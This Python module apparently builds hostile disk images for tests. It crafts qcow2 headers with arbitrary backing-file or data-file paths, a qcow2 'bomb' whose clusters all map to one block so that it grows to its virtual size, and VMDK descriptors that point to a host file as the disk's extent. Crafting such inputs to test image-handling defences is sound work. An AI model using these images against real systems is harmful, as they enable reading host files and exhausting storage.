"""Disk images as an attacker makes them, written byte by byte."""

import struct
from pathlib import Path

CLUSTER = 65536


def qcow2(
    *,
    virtual_size: int = 1 << 20,
    backing: bytes = b"",
    data_file: bytes = b"",
    encryption: int = 0,
    features: int = 0,
    l1_entries: int = 1,
    refcount_clusters: int = 1,
    snapshots: int = 0,
    cluster_bits: int = 16,
    version: int = 3,
) -> bytes:
    """A qcow2's first cluster; its tables are left to be written after it."""
    name_at = 1024 if backing else 0
    if data_file:
        features |= 4
    head = struct.pack(
        ">4sIQIIQIIQQIIQ",
        b"QFI\xfb", version, name_at, len(backing), cluster_bits, virtual_size, encryption,
        l1_entries, CLUSTER, 3 * CLUSTER, refcount_clusters, snapshots, 5 * CLUSTER if snapshots else 0,
    )  # fmt: skip
    head += struct.pack(">QQQII", features, 0, 0, 4, 104)
    if data_file:
        head += struct.pack(">II", 0x44415441, len(data_file)) + data_file.ljust(-(-len(data_file) // 8) * 8, b"\0")
    return (head + bytes(8)).ljust(1024, b"\0") + backing.ljust(CLUSTER - 1024, b"\0")


def bomb(path: Path, virtual_size: int) -> Path:
    """A small qcow2 all of whose clusters are one and the same, so that it becomes as large as its virtual size."""
    entries = -(-virtual_size // (CLUSTER * CLUSTER // 8))
    used = 1 << 63
    tables = struct.pack(">Q", used | 2 * CLUSTER) * entries
    one_l2 = struct.pack(">Q", used | 5 * CLUSTER) * (CLUSTER // 8)
    refcounts = struct.pack(">Q", 4 * CLUSTER).ljust(CLUSTER, b"\0")
    counts = struct.pack(">6H", *[1] * 6).ljust(CLUSTER, b"\0")
    head = qcow2(virtual_size=virtual_size, l1_entries=entries)
    path.write_bytes(head + tables.ljust(CLUSTER, b"\0") + one_l2 + refcounts + counts + b"\x07" * CLUSTER)
    return path


def descriptor(extent: str, sectors: int = 2048, kind: str = "FLAT") -> bytes:
    """A VMDK's text that names a file of the host as the disk's content."""
    return (
        "# Disk DescriptorFile\nversion=1\nCID=fffffffe\nparentCID=ffffffff\n"
        f'createType="monolithicFlat"\n\nRW {sectors} {kind} "{extent}" 0\n\n'
        'ddb.adapterType = "ide"\nddb.geometry.cylinders = "2"\nddb.geometry.heads = "16"\n'
        'ddb.geometry.sectors = "63"\n'
    ).encode()


def vmdk_around(text: bytes) -> bytes:
    """The header of a VMDK that is one file, with no capacity of its own: its descriptor says where the disk is."""
    header = struct.pack("<4sIIQQQQ", b"KDMV", 1, 3, 0, 128, 1, 20)
    return header.ljust(512, b"\0") + text.ljust(20 * 512, b"\0")
